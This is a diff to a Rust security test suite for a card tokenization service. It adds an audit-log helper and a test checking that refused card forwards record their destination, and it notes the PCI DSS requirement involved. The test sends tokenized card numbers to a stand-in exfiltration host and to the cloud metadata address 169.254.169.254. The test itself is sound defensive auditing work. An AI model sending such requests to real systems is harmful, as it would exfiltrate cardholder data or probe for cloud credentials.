@@ -54,6 +54,7 @@ struct Harness {
     app: App<Forward>,
     stub: StubProcessor,
     tokenizer: Tokenizer,
+    logs: Arc<Mutex<Vec<u8>>>,
     _clock: Arc<ManualClock>,
     _log: tracing::subscriber::DefaultGuard,
 }
@@ -138,12 +139,21 @@ async fn harness() -> Harness {
         app,
         stub,
         tokenizer,
+        logs: audit,
         _clock: clock,
         _log: log,
     }
 }
 
 impl Harness {
+    fn audit_lines(&self) -> Vec<Value> {
+        String::from_utf8_lossy(&self.logs.lock().expect("log"))
+            .lines()
+            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+            .filter(|v| v["target"] == "audit")
+            .collect()
+    }
+
     async fn token(&self, pan: &str) -> String {
         let mut request = TokenizeRequest::new(Pan::parse(pan).expect("pan"));
         request.dedupe = false;
@@ -530,5 +540,53 @@ async fn attack_forward_parks_the_pan_in_a_free_text_field_of_the_callers_own_pr
     assert!(
         !parked,
         "forward (status {status}) sent the full PAN in `description` and `metadata` under the caller's own processor credentials"
+    );
+}
+
+// ---------------------------------------------------------------------------
+// Finding 7: a forward refused for its destination is audited without the
+// destination. `facts.destination` is set only once a grant matched, so the
+// audit event of a forwarder trying to send PANs to an exfiltration host
+// (403 destination-not-allowed) or to the metadata service (400
+// invalid-destination) says `destination: ""`: the investigator sees that a
+// forward was refused, with its tokens, but not where the PANs were meant
+// to go (PCI DSS 10.2.1, every access attempt with its target).
+// ---------------------------------------------------------------------------
+
+#[tokio::test]
+async fn attack_refused_forward_destination_is_missing_from_the_audit_event() {
+    let h = harness().await;
+    let visa = h.token(VISA).await;
+    let mut unnamed = Vec::new();
+    for (url, host) in [
+        ("https://exfil.attacker.example/collect", "exfil.attacker.example"),
+        (
+            "https://processor.example:1/v1/charges",
+            "processor.example:1",
+        ),
+        ("https://169.254.169.254/latest/meta-data", "169.254.169.254"),
+    ] {
+        let (status, _) = h
+            .call(json!({
+                "url": url,
+                "method": "POST",
+                "body": format!(r#"{{"card":"{{{{{visa}}}}}"}}"#),
+                "reason": "charge order 42",
+            }))
+            .await;
+        let audit = h.audit_lines().pop().expect("an audit event");
+        let f = &audit["fields"];
+        let destination = f["destination"].as_str().unwrap_or_default();
+        if !destination.contains(host) {
+            unnamed.push(format!(
+                "{url}: status {status}, audit destination {destination:?}, token_hint {}",
+                f["token_hint"]
+            ));
+        }
+    }
+    assert!(
+        unnamed.is_empty(),
+        "refused forwards audited without their target:\n{}",
+        unnamed.join("\n")
     );
 }
